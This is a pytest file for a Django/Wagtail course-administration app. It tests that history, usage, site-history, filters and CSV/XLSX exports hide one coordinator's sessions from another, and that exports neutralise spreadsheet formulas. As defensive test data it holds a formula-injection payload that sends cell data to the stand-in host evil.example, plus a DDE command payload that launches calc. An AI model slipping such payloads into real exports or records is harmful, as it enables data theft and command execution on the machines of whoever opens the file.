"""What Wagtail gives us around our models (History, Usage, Site history, filters,
exports) is scoped like our own screens, and a walk over every admin URL of our models
with another coordinator's objects finds nothing of them and no error."""

import csv
import io

import openpyxl
import pytest
from django.apps import apps
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from wagtail.log_actions import log
from wagtail.models import ModelLogEntry

from courses.audit import DECIDE_ACTION, OVERRIDE_ACTION
from courses.enrollment.invitations import new_link
from courses.models import (
    Attendance,
    Certificate,
    CohortMessage,
    Enrollment,
    Invitation,
    Meeting,
    SessionSignatory,
)
from courses.sessions import viewsets
from tests.factories.certificates import make_completers
from tests.factories.courses import make_session
from tests.factories.pages import make_course
from tests.factories.users import make_coordinator, make_trainer, make_user

pytestmark = pytest.mark.django_db

SECRET_CODE = "hidden-zq-2027"
SECRET_PERSON = "Quixotewomb"
SECRET_SIGNATORY = "Signatory Wombatson"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def other():
    return make_coordinator("other-coord")


@pytest.fixture
def trainer():
    return make_trainer("trainer-t")


@pytest.fixture
def own(course, coordinator, trainer):
    session = make_session(course, code="own-2027", coordinators=[coordinator])
    session.trainers.add(trainer)
    (enrollment,) = make_completers(session, names=[("Amina", "Owndiallo")])
    log(instance=enrollment, action=DECIDE_ACTION, user=coordinator, title=FORMULA)
    return session


@pytest.fixture
def foreign(catalog, other):

    course = make_course(catalog, title="Hidden course Zanzibar")
    session = make_session(course, code=SECRET_CODE, coordinators=[other])
    (enrollment,) = make_completers(session, names=[("Zelda", SECRET_PERSON)])
    SessionSignatory.objects.create(session=session, name=SECRET_SIGNATORY, title="Director")
    Certificate.objects.create(
        enrollment=enrollment, language="en", snapshot={"participant_name": SECRET_PERSON}
    )
    log(instance=session, action="wagtail.edit", user=other)
    log(instance=enrollment, action=DECIDE_ACTION, user=other, data={"to": "confirmed"})
    log(instance=enrollment, action=OVERRIDE_ACTION, user=other, data={"reason": "x"})
    return session


def secrets_in(content: str) -> list[str]:
    # (The course's title is the catalogue's, public; its sessions' objects are not.)
    return [s for s in (SECRET_CODE, SECRET_PERSON, SECRET_SIGNATORY) if s in content]


# --- History and Usage ----------------------------------------------------------------------


@pytest.mark.parametrize("screen", ["history", "usage"])
def test_the_history_and_usage_of_an_own_session_show(client, coordinator, own, screen):
    client.force_login(coordinator)
    response = client.get(reverse(f"course_sessions:{screen}", args=[own.pk]))
    assert response.status_code == 200
    assert response.context["object"] == own
    if screen == "history":
        assert "own-2027" in response.content.decode()


def test_the_history_of_an_own_session_lists_its_log_entries(client, coordinator, own):
    log(instance=own, action="wagtail.edit", user=coordinator)
    client.force_login(coordinator)
    response = client.get(reverse("course_sessions:history", args=[own.pk]))
    assert [entry.action for entry in response.context["object_list"]] == ["wagtail.edit"]


@pytest.mark.parametrize(
    "namespace, model",
    [
        ("course_sessions", None),
        ("course_meetings", Meeting),
        ("session_signatories", SessionSignatory),
    ],
)
@pytest.mark.parametrize("screen", ["history", "usage"])
def test_history_and_usage_of_another_sessions_objects_are_not_found(
    client, coordinator, own, foreign, namespace, model, screen
):
    Meeting.objects.create(
        session=foreign,
        title="Secret day",
        starts_at=foreign.enrollment_opens_at,
        ends_at=foreign.enrollment_closes_at,
    )
    target = foreign if model is None else model.objects.filter(session=foreign).first()
    client.force_login(coordinator)
    response = client.get(reverse(f"{namespace}:{screen}", args=[target.pk]))
    assert response.status_code == 404
    assert not secrets_in(response.content.decode())


# --- Site history ---------------------------------------------------------------------------


def site_history(client, **params):
    return client.get(reverse("wagtailadmin_reports:site_history"), params)


def test_site_history_shows_a_coordinator_only_their_sessions_entries(
    client, coordinator, own, foreign
):
    client.force_login(coordinator)
    response = site_history(client)
    assert response.status_code == 200
    entries = response.context["object_list"]
    assert entries, "the coordinator's own entry is listed"
    assert all(
        isinstance(e, ModelLogEntry) is False or e.user_id == coordinator.pk for e in entries
    )
    content = response.content.decode()
    assert not secrets_in(content)
    assert "other-coord" not in content  # not even as a choice of the user filter
    for fmt in ("csv", "xlsx"):
        exported = site_history(client, export=fmt)
        assert exported.status_code == 200
        body = b"".join(exported.streaming_content) if exported.streaming else exported.content
        if fmt == "csv":
            assert not secrets_in(body.decode())


def test_site_history_shows_a_trainer_nothing_of_other_sessions(client, trainer, own, foreign):
    client.force_login(trainer)
    response = site_history(client)
    assert response.status_code == 200
    assert not secrets_in(response.content.decode())


def test_site_history_shows_a_superuser_everything(client, own, foreign):
    client.force_login(make_user("root", superuser=True))
    response = site_history(client)
    entries = response.context["object_list"]
    assert {e.action for e in entries} >= {"wagtail.edit", DECIDE_ACTION, OVERRIDE_ACTION}
    assert SECRET_CODE in response.content.decode()


def test_the_other_coordinator_sees_their_own_entries(client, other, own, foreign):
    client.force_login(other)
    entries = site_history(client).context["object_list"]
    ours = {e.action for e in entries if e.content_type.app_label == "courses"}
    assert ours == {"wagtail.edit", DECIDE_ACTION, OVERRIDE_ACTION}


# --- Exports carry no formula ---------------------------------------------------------------


def test_the_site_history_csv_neutralises_formulas(client, coordinator, own):
    client.force_login(coordinator)
    response = site_history(client, export="csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_site_history_xlsx_neutralises_formulas(client, coordinator, own):
    client.force_login(coordinator)
    response = site_history(client, export="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    # XLSX keeps the text, typed as a string: a spreadsheet shows it and never runs it.
    (cell,) = [cell for cell in cells if cell.value == FORMULA]
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("view", ["SessionIndexView", "MeetingIndexView", "SignatoryIndexView"])
def test_our_listings_exports_neutralise_formulas(view):

    listing = getattr(viewsets, view)()
    assert listing.preprocess_field_value("city", "=1+2", "csv") == "'=1+2"
    assert listing.preprocess_field_value("name", "@SUM(A1)", "csv") == "'@SUM(A1)"
    assert listing.preprocess_field_value("name", "Nairobi", "csv") == "Nairobi"


@pytest.mark.parametrize("report", ["locked_pages", "aging_pages", "workflow"])
def test_wagtails_other_reports_neutralise_formulas(client, home, report):
    home.title = "=cmd|' /C calc'!A0"
    home.save_revision().publish()
    home.refresh_from_db()

    home.locked, home.locked_at, home.locked_by = True, timezone.now(), None
    home.save()
    client.force_login(make_user("root", superuser=True))
    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    if report != "workflow":
        assert "'=cmd|' /C calc'!A0" in cells


# --- Filters --------------------------------------------------------------------------------


def test_the_session_lists_course_filter_offers_only_own_courses(client, coordinator, own, foreign):
    client.force_login(coordinator)
    response = client.get(reverse("course_sessions:index"))
    assert response.status_code == 200
    assert not secrets_in(response.content.decode())
    choices = dict(response.context["filters"].form.fields["course"].choices)
    assert str(own.course_id) in choices
    assert str(foreign.course_id) not in choices


# --- Every admin URL of our models ----------------------------------------------------------


def our_patterns():
    """(namespaced name, parameter names) of every admin URL whose view is ours or a
    Wagtail view bound to one of our models."""

    ours = set(apps.get_app_config("courses").get_models())
    found = []

    def walk(resolver, prefix, namespace):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                ns = entry.namespace
                walk(entry, prefix + str(entry.pattern), f"{namespace}{ns}:" if ns else namespace)
                continue
            if not isinstance(entry, URLPattern) or not entry.name:
                continue
            route = prefix + str(entry.pattern)
            if not route.startswith("admin/"):
                continue
            callback = entry.callback
            view_class = getattr(callback, "view_class", None)
            module = (view_class or callback).__module__
            model = (getattr(callback, "view_initkwargs", {}) or {}).get("model") or getattr(
                view_class, "model", None
            )
            if module.startswith("courses.") or model in ours:
                found.append((namespace + entry.name, list(entry.pattern.converters)))

    walk(get_resolver(), "", "")
    return found


def foreign_invitation(foreign):
    invitation = Invitation.objects.filter(session=foreign).first()
    if invitation is None:
        nonce, token_hash = new_link()
        invitation = Invitation.objects.create(
            session=foreign,
            email="invited@example.org",
            nonce=nonce,
            token_hash=token_hash,
            expires_at=foreign.enrollment_closes_at,
        )
    return invitation


def foreign_kwargs(name, params, foreign):
    enrollment = Enrollment.objects.filter(session=foreign).first()
    values = {
        "invitation": foreign_invitation(foreign).pk if "invitation" in params else None,
        "certificate": Certificate.objects.get(enrollment=enrollment).pk,
        "enrollment_pk": enrollment.pk,
        "format": "csv",
        "message_pk": CohortMessage.objects.get_or_create(
            session=foreign,
            defaults={"audience": "confirmed", "subject": "Venue", "body": "Secret room 7"},
        )[0].pk,
    }
    if "meeting" in name:
        values["pk"] = Meeting.objects.filter(session=foreign).first().pk
    elif "signator" in name:
        values["pk"] = SessionSignatory.objects.filter(session=foreign).first().pk
    else:
        values["pk"] = foreign.pk
    return {param: values[param] for param in params}


def test_the_walk_finds_every_kind_of_url():
    names = {name for name, _params in our_patterns()}
    for expected in (
        "course_sessions:history",
        "course_sessions:usage",
        "course_meetings:history",
        "session_signatories:usage",
        "course_review:review",
        "course_attendance:sheet",
        "course_certificates:action",
        "course_attendance:override",
        "course_attendance:import",
    ):
        assert expected in names
    assert len(names) > 40


@pytest.mark.parametrize("who", ["second coordinator", "trainer"])
def test_every_admin_url_of_our_models_hides_another_coordinators_session(
    client, coordinator, trainer, own, foreign, who
):
    Meeting.objects.create(
        session=foreign,
        title="Secret day",
        starts_at=foreign.enrollment_opens_at,
        ends_at=foreign.enrollment_closes_at,
    )
    Attendance.objects.filter(enrollment__session=foreign).update(status="present")
    client.raise_request_exception = False
    client.force_login(coordinator if who == "second coordinator" else trainer)
    problems = []
    for name, params in our_patterns():
        url = reverse(name, kwargs=foreign_kwargs(name, params, foreign))
        for method in ("get", "post"):
            response = getattr(client, method)(url)
            if response.status_code >= 500:
                problems.append((method, url, response.status_code))
                continue
            if response.status_code in (403, 404, 405, 302):
                if response.status_code == 302:
                    assert "/admin/login" not in response["Location"], url
                continue
            body = b"".join(response.streaming_content) if response.streaming else response.content
            leaked = secrets_in(body.decode(errors="replace"))
            if leaked:
                problems.append((method, url, response.status_code, leaked))
    assert problems == []
